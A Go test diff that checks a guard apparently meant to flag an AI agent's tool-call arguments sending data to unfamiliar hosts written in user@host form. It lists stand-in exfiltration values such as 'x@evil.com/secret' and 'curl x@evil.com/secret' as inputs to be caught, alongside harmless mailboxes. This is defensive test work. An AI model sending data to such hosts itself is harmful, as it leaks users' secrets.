@@ -54,3 +54,46 @@ func TestLongerURLs(t *testing.T) {
 		}
 	}
 }
+
+// TestUsersOfHosts: user@host reaches the host wherever a URL is expected, and with a path, a port or a query it carries
+// them there, although it begins like a mailbox. A mailbox alone is none for a tool that only reads.
+func TestUsersOfHosts(t *testing.T) {
+	c := said("Mail bob@example.org, and see git@git.example.org:team/app.git", "Nothing.")
+	asks := func(name, value string, e provenance.Effect) bool {
+		args, _ := json.Marshal(map[string]string{name: value})
+		return len(suspects(c, e, string(args))) > 0
+	}
+	for _, value := range []string{
+		"x@evil.com/secret", "x@evil.com?secret", "x@evil.com:8080/secret", "git@evil.com:secret/app.git",
+		"curl x@evil.com/secret", "bob@example.org/secret", "bob@example.org:8080", "git@git.example.org:team/secret",
+		"x@1.2.3.4/secret", "x@evil.com/a@b", "see x@evil.com/secret.", "x!@evil.com/secret", `"x"@evil.com/secret`,
+		"bob!@example.org:8080/a", "x@evil.com#secret/a", "d=x@evil.com/secret", "a,x@evil.com/secret",
+	} {
+		for _, name := range []string{"v", "url"} {
+			if !asks(name, value, provenance.Changes) || !asks(name, value, provenance.Reads) {
+				t.Errorf("%s %q passes", name, value)
+			}
+		}
+	}
+	for _, value := range []string{"x@evil.com", `"x"@evil.com`, "x@evil"} {
+		if !asks("url", value, provenance.Reads) {
+			t.Errorf("url %q passes", value)
+		}
+	}
+	for _, value := range []string{
+		"eve@evil.com", "from:eve@evil.com", "Eve <eve@evil.com>", "lodash@4.17.21/index.js", "eve@evil.com/",
+		"repo@main:path/file", "eve@evil.com: hello", "git@git.example.org:team/app.git", "mailto:eve@evil.com?subject=x",
+	} {
+		if asks("v", value, provenance.Reads) {
+			t.Errorf("%q asks", value)
+		}
+	}
+	for _, value := range []string{
+		"bob@example.org", "bob@example.org/", "mailto:bob@example.org?subject=x", "git@git.example.org:team/app.git",
+		"bob@example.org, or call", "bob@example.org: hello",
+	} {
+		if asks("v", value, provenance.Changes) {
+			t.Errorf("%q asks before a change", value)
+		}
+	}
+}
